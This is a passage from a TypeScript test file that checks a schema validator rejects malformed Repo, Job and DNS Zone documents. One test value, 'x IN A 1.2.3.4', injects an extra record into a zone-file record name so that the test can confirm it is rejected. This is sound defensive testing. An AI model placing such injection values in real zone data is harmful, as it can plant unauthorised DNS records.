    keyword: 'pattern', instancePath: '/spec/etcdPrefix' },
  { name: 'etcdPrefix with a trailing slash', kind: 'Repo', doc: mutated('Repo', (d) => { d.spec.etcdPrefix = '/ygg/'; }),
    keyword: 'pattern', instancePath: '/spec/etcdPrefix' },
  { name: 'replicas 0', kind: 'Job', doc: mutated('Job', (d) => { d.spec.replicas = 0; }),
    keyword: 'minimum', instancePath: '/spec/replicas' },
  { name: 'config mode as a YAML number', kind: 'Job', doc: mutated('Job', (d) => { d.spec.configs[0].mode = parse('0644'); }),
    keyword: 'type', instancePath: '/spec/configs/0/mode' },
  { name: 'config mode with a non-octal digit', kind: 'Job', doc: mutated('Job', (d) => { d.spec.configs[0].mode = '0698'; }),
    keyword: 'pattern', instancePath: '/spec/configs/0/mode' },
  { name: 'template over 1 MiB', kind: 'Job', doc: mutated('Job', (d) => { d.spec.configs[0].template = 'x'.repeat(1048577); }),
    keyword: 'maxLength', instancePath: '/spec/configs/0/template' },
  { name: 'rollout autoRevert as a string', kind: 'Job', doc: mutated('Job', (d) => { d.spec.rollout.autoRevert = 'yes'; }),
    keyword: 'type', instancePath: '/spec/rollout/autoRevert' },

  // zones: a name that could break out of a zone file, a zone without a name server
  { name: 'zone origin with a trailing dot', kind: 'Zone', doc: mutated('Zone', (d) => { d.metadata.name = 'svc.example.test.'; }),
    keyword: 'pattern', instancePath: '/metadata/name' },
  { name: 'record name with a space and a record after it', kind: 'Zone', doc: mutated('Zone', (d) => { d.spec.publish[0].name = 'x IN A 1.2.3.4'; }),
    keyword: 'pattern', instancePath: '/spec/publish/0/name' },
  { name: 'zone without name servers', kind: 'Zone', doc: mutated('Zone', (d) => { d.spec.nameServers = []; }),
    keyword: 'minItems', instancePath: '/spec/nameServers' },
  { name: 'name server address that is a name', kind: 'Zone', doc: mutated('Zone', (d) => { d.spec.nameServers[0].addresses = ['ns1.example.net']; }),
    keyword: 'anyOf', instancePath: '/spec/nameServers/0/addresses/0' },
];

for (const c of BAD) {
  test(`rejects ${c.kind}: ${c.name}`, () => {
    const errors = validate(c.kind, c.doc());
    assert.notEqual(errors.length, 0, 'the document was accepted');
    const match = errors.find(
      (e) =>
        e.keyword === c.keyword &&
        e.instancePath === c.instancePath &&
        Object.entries(c.params ?? {}).every(([k, v]) => {
          try {
            assert.deepEqual((e.params as Record<string, unknown>)[k], v);
            return true;
          } catch {
            return false;
          }
        }),
    );
    assert.ok(match, `expected ${c.keyword} at "${c.instancePath}", got:\n${describeErrors(errors)}`);
    // The mutation is the only thing wrong: no error lands outside the expected location.
    const stray = errors.filter((e) => e.instancePath !== c.instancePath && !e.instancePath.startsWith(`${c.instancePath}/`));
    assert.deepEqual(stray, [], `errors outside "${c.instancePath}":\n${describeErrors(stray)}`);
  });
}
